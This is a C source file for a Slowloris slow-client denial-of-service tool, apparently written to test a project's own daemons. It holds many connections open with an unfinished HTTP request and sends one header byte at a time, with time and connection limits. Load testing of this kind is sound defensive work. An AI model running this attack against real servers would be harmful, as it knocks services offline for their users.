/* slowloris.c — a bounded slow-client attack for the daemons' tests.
 *
 *   slowloris HOST PORT BIND_ADDR CONNECTIONS SECONDS INTERVAL_S
 *
 * Opens up to CONNECTIONS TCP connections to HOST:PORT from BIND_ADDR (a
 * loopback address other than the legitimate client's, e.g. 127.0.0.2, so
 * that a per-address limit does not also block the test's own requests),
 * sends the start of a request and then one more header byte per
 * connection every INTERVAL_S seconds, never finishing it. Connections the
 * server closes are counted and opened again a second later. Stops after SECONDS (bounded
 * in time and count) and prints one line:
 *   attempted N connected N server_closed N max_open N
 * Exit 0 unless its arguments are wrong or BIND_ADDR cannot be bound. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONN 4096

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

typedef struct {
    int fd;
    int connected;   /* the request start was sent */
    double retry_at; /* closed: open again after this */
} slot;

static int open_one(const struct sockaddr_in *to, const struct sockaddr_in *from)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    if (bind(fd, (const struct sockaddr *)from, sizeof *from)) {
        close(fd);
        return -2;
    }
    if (connect(fd, (const struct sockaddr *)to, sizeof *to) && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

int main(int argc, char **argv)
{
    if (argc != 7) {
        fprintf(stderr, "usage: slowloris HOST PORT BIND_ADDR CONNECTIONS SECONDS INTERVAL_S\n");
        return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET}, from = {.sin_family = AF_INET};
    long port = strtol(argv[2], NULL, 10), n = strtol(argv[4], NULL, 10);
    double dur = strtod(argv[5], NULL), every = strtod(argv[6], NULL);
    if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
        inet_pton(AF_INET, argv[3], &from.sin_addr) != 1 || port < 1 || port > 65535 || n < 1 ||
        n > MAX_CONN || !(dur > 0 && dur <= 600) || !(every >= 0.05 && every <= 60)) {
        fprintf(stderr, "slowloris: bad arguments\n");
        return 2;
    }
    to.sin_port = htons((unsigned short)port);
    static slot s[MAX_CONN];
    static struct pollfd pf[MAX_CONN];
    static const char start[] = "GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: ";
    unsigned long long attempted = 0, connected = 0, closed = 0;
    long open_now = 0, max_open = 0;
    for (long i = 0; i < n; i++) s[i].fd = -1, s[i].retry_at = 0;
    double t0 = now_s(), next_byte = t0 + every;
    while (now_s() - t0 < dur) {
        /* (re)open what is closed */
        for (long i = 0; i < n; i++)
            if (s[i].fd < 0 && now_s() >= s[i].retry_at) {
                int fd = open_one(&to, &from);
                if (fd == -2) {
                    fprintf(stderr, "slowloris: cannot bind %s: %s\n", argv[3], strerror(errno));
                    return 2;
                }
                attempted++;
                if (fd < 0) break; /* out of fds or ports: try again next round */
                s[i] = (slot){fd, 0, 0.0};
                open_now++;
            }
        if (open_now > max_open) max_open = open_now;
        for (long i = 0; i < n; i++) {
            pf[i].fd = s[i].fd;
            pf[i].events = s[i].fd >= 0 ? (short)(POLLIN | (s[i].connected ? 0 : POLLOUT)) : 0;
            pf[i].revents = 0;
        }
        poll(pf, (nfds_t)n, 100);
        int tick = now_s() >= next_byte;
        if (tick) next_byte += every;
        for (long i = 0; i < n; i++) {
            if (s[i].fd < 0) continue;
            int dead = 0;
            if (pf[i].revents & (POLLIN | POLLHUP | POLLERR)) {
                char b[512];
                ssize_t k = recv(s[i].fd, b, sizeof b, 0);
                if (k <= 0 && !(k < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))) dead = 1;
                else if (k > 0)
                    dead = 1; /* the server answered (e.g. an error): not slow any more */
            }
            if (!dead && !s[i].connected && (pf[i].revents & POLLOUT)) {
                if (send(s[i].fd, start, sizeof start - 1, MSG_NOSIGNAL) < 0) dead = 1;
                else s[i].connected = 1, connected++;
            } else if (!dead && s[i].connected && tick) {
                if (send(s[i].fd, "a", 1, MSG_NOSIGNAL) < 0) dead = 1;
            }
            if (dead) {
                close(s[i].fd);
                s[i].fd = -1;
                s[i].retry_at = now_s() + 1.0;
                open_now--;
                if (s[i].connected) closed++;
            }
        }
    }
    for (long i = 0; i < n; i++)
        if (s[i].fd >= 0) close(s[i].fd);
    printf("attempted %llu connected %llu server_closed %llu max_open %ld\n", attempted, connected,
           closed, max_open);
    return 0;
}
